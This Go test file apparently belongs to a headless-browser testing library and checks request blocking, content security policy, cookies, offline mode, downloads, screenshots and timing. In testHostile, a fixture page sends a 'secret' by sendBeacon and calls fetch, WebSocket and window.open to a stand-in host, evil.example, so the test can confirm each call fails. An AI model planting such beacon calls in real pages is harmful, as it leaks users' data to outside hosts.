package browsertest

import (
	"bytes"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func testHostile(t *testing.T, p *Page) {
	other := serve(t, map[string]string{"/frame": `<img src="http://in-frame.example/x.png">framed`, "/worker.js": ``})
	srv := serve(t, map[string]string{
		"/": `<img src="http://evil.example/beacon.png"><img src="http://192.0.2.1/by-number.png"><link rel=stylesheet href="//evil.example/style.css"><img src=/own.png>
			<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><iframe src="` + strings.Replace(other.URL, "127.0.0.1", "localhost", 1) + `/frame"></iframe>
			<a id=out target=_blank rel="noopener noreferrer" href="http://evil.example/out">out</a>
			<script>navigator.sendBeacon('http://evil.example/sent', 'secret'); fetch('http://evil.example/fetched').catch(() => {}); new WebSocket('ws://evil.example/socket');
			new Worker('/worker.js'); window.open('http://evil.example/window');</script>`,
		"/worker.js": `fetch('http://evil.example/from-worker').catch(() => {})`,
	})
	p.Go(srv.URL)
	p.Click("#out")
	want := map[string]string{"http://evil.example/beacon.png": "", "http://192.0.2.1/by-number.png": "", "http://evil.example/style.css": "", "http://evil.example/sent": "",
		"http://evil.example/fetched": "", "ws://evil.example/socket": "", "http://evil.example/from-worker": "", "http://in-frame.example/x.png": "", "http://evil.example/out": "", "http://evil.example/window": ""}
	found := func() (missing []string) {
		strangers := p.Strangers(srv.URL)
		for u := range want {
			if !slices.ContainsFunc(strangers, func(r Request) bool { return r.URL == u && r.Failed != "" }) {
				missing = append(missing, u)
			}
		}
		slices.Sort(missing)
		return missing
	}
	for i := 0; found() != nil; i++ {
		if i == 200 {
			t.Fatalf("not seen to fail: %q\n%v", found(), p.Requests())
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, r := range p.Strangers(srv.URL) {
		if r.Status != 0 && !strings.Contains(r.URL, "localhost") {
			t.Errorf("answered: %v", r)
		}
		if strings.HasPrefix(r.URL, srv.URL) || strings.HasPrefix(r.URL, "data:") {
			t.Errorf("no stranger: %v", r)
		}
	}
	if !slices.ContainsFunc(p.Requests(), func(r Request) bool {
		return r.URL == srv.URL+"/own.png" && r.Status == 404 && r.Kind == "Image" && r.Done && r.Bytes > 0
	}) {
		t.Errorf("its own picture is missing in %v", p.Requests())
	}
}

func testStrict(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/a.strict": `<img src="http://evil.example/x.png"><script>window.ran = true</script><p style="color: red" onclick="x()">text</p>`})
	p.Go(srv.URL + "/a.strict")
	var ran bool
	p.Eval(`!!window.ran`, &ran)
	if ran {
		t.Error("the script ran")
	}
	n := 0
	for _, m := range p.Complaints() {
		if m.Kind == "security:error" && strings.Contains(m.Text, "Content Security Policy") {
			n++
		}
	}
	if n < 3 {
		t.Errorf("%d breaches of the policy were told: %v", n, p.Console())
	}
	for _, r := range p.Strangers(srv.URL) {
		if r.Blocked != "csp" || r.Status != 0 {
			t.Errorf("not blocked: %v", r)
		}
	}
}

func testCookies(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/a.cookie": `set`, "/": `<script>document.write(document.cookie)</script>`})
	p.Go(srv.URL + "/a.cookie")
	got := p.Cookies()
	if len(got) != 1 || got[0] != (Cookie{Name: "crumb", Value: "1", Domain: "127.0.0.1", Path: "/", Expires: -1, HTTPOnly: true, SameSite: "Strict"}) {
		t.Errorf("cookies: %+v", got)
	}
	p.SetCookie(srv.URL, "more", "2")
	tab := p.Tab()
	tab.Go(srv.URL)
	equal(t, "in another tab", tab.Text("body"), "more=2")
	stranger := p.b.Page(t)
	stranger.Go(srv.URL)
	equal(t, "on another page", stranger.Text("body"), "")
	p.ClearCookies()
	equal(t, "cleared", len(p.Cookies()), 0)
}

func testOffline(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/": `on <script>window.ask = path => fetch(path).then(r => r.status + '', () => 'failed')</script>`, "/data": `x`})
	p.Go(srv.URL)
	ask := func(path string) (got string) {
		t.Helper()
		p.Eval(`ask(`+quote(path)+`)`, &got)
		return got
	}
	equal(t, "before", ask("/data"), "200")
	p.SetOffline(true)
	equal(t, "offline", ask("/data"), "failed")
	if err := p.Try(srv.URL + "/data"); err == nil || !strings.Contains(err.Error(), "ERR_INTERNET_DISCONNECTED") {
		t.Errorf("go offline: %v", err)
	}
	p.SetOffline(false)
	p.Go(srv.URL)
	equal(t, "online", ask("/data"), "200")
	p.Block("*://*:*/data")
	equal(t, "blocked", ask("/data"), "failed")
	equal(t, "not blocked", ask("/other"), "404")
	p.Block()
	equal(t, "free", ask("/data"), "200")
}

func testDownloads(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/": `<a id=a href=/n.csv>numbers</a><button>made here</button><script>document.querySelector('button').onclick = () => {
		const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['made'])); a.download = 'made.txt'; a.click(); }</script>`, "/n.csv": "a,b\n1,2\n"})
	p.Go(srv.URL)
	for range 2 {
		file := p.Download(func() { p.Click("#a") })
		body, err := os.ReadFile(file.Path)
		if err != nil || string(body) != "a,b\n1,2\n" {
			t.Errorf("%q, %v", body, err)
		}
		equal(t, "name", file.Name, "numbers of today.csv")
		equal(t, "address", file.URL, srv.URL+"/n.csv")
	}
	file := p.Download(func() { p.Click("button") })
	body, err := os.ReadFile(file.Path)
	if err != nil || string(body) != "made" || file.Name != "made.txt" {
		t.Errorf("%q, %v, %v", body, file, err)
	}
	equal(t, "address of the page", p.URL(), srv.URL+"/")
	mentions(t, failure(t, p, 300*time.Millisecond, func() { p.Download(func() {}) }), "wait for a download")
}

func testScreens(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/": `<meta name=viewport content="width=device-width"><style>html { background: rgb(255, 255, 255) } body { margin: 0; height: 1500px }
		@media (prefers-color-scheme: dark) { html { background: rgb(0, 0, 40) } } @media (prefers-reduced-motion: reduce) { body { height: 1700px } } @media print { body { height: 90px } }</style>`})
	p.Go(srv.URL)
	for _, c := range []struct {
		name   string
		screen Screen
		whole  bool
		width  int
		height int
		corner color.RGBA
	}{
		{"default", Screen{}, false, 1280, 800, color.RGBA{255, 255, 255, 255}},
		{"dark and whole", Screen{Width: 600, Height: 400, Dark: true}, true, 600, 1500, color.RGBA{0, 0, 40, 255}},
		{"a sharp phone", Screen{Width: 390, Height: 844, Scale: 2, Phone: true}, false, 780, 1688, color.RGBA{255, 255, 255, 255}},
		{"without motion", Screen{Width: 300, Height: 200, Scale: 2, Still: true}, true, 600, 3400, color.RGBA{255, 255, 255, 255}},
		{"paper", Screen{Width: 300, Height: 50, Print: true}, true, 300, 90, color.RGBA{255, 255, 255, 255}},
	} {
		t.Run(c.name, func(t *testing.T) {
			p.Show(c.screen)
			path := filepath.Join(t.TempDir(), "pictures", "a.png")
			p.Save(path, c.whole)
			raw, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			picture, err := png.Decode(bytes.NewReader(raw))
			if err != nil {
				t.Fatal(err)
			}
			if size := picture.Bounds().Size(); size != (image.Point{c.width, c.height}) {
				t.Errorf("size %v", size)
			}
			for _, at := range []image.Point{{}, {c.width - 1, c.height - 1}} {
				if got := color.RGBAModel.Convert(picture.At(at.X, at.Y)); got != c.corner {
					t.Errorf("colour at %v: %v", at, got)
				}
			}
		})
	}
}

func testTiming(t *testing.T, p *Page) {
	script := "/*" + strings.Repeat("x", 20_000) + "*/"
	srv := serve(t, map[string]string{"/": `<p>painted</p><script src=/s.js></script>`, "/s.js": script})
	p.Go(srv.URL)
	got := p.Timing()
	if got.FirstContentfulPaint <= 0 || got.FirstPaint > got.FirstContentfulPaint || got.Load <= 0 || got.Interactive > got.Load {
		t.Errorf("%+v", got)
	}
	if got.Resources != 1 || got.Transferred < 20_000 || got.Transferred > 23_000 || got.Decoded < 20_000 || got.Decoded >= got.Transferred {
		t.Errorf("%+v", got)
	}
}

func testInject(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/a.strict": `<p>text</p>`})
	p.Go(srv.URL + "/a.strict")
	p.Inject(`(function (root) { root.library = {run: async () => ({found: document.querySelectorAll('p').length})} })(this); // its last line is a comment`)
	var got struct{ Found int }
	p.Eval(`library.run()`, &got)
	equal(t, "found", got.Found, 1)
	mentions(t, failure(t, p, time.Minute, func() { p.Inject(`syntax error`) }), "SyntaxError")
}

func testScriptless(t *testing.T, p *Page) {
	srv := serve(t, map[string]string{"/": `<p id=n>plain</p><form action=/two><input name=q></form><a href=/two>two</a><script>n.textContent = 'scripted'</script>`, "/two": `<p>second</p>`})
	p.Scripts(false)
	p.Go(srv.URL)
	equal(t, "without scripts", p.Text("#n"), "plain")
	p.Fill("input", "typed")
	equal(t, "typed", p.Value("input"), "typed")
	p.Follow("a")
	p.WaitText("p", "second")
	p.Scripts(true)
	p.Go(srv.URL)
	equal(t, "with scripts", p.Text("#n"), "scripted")
}
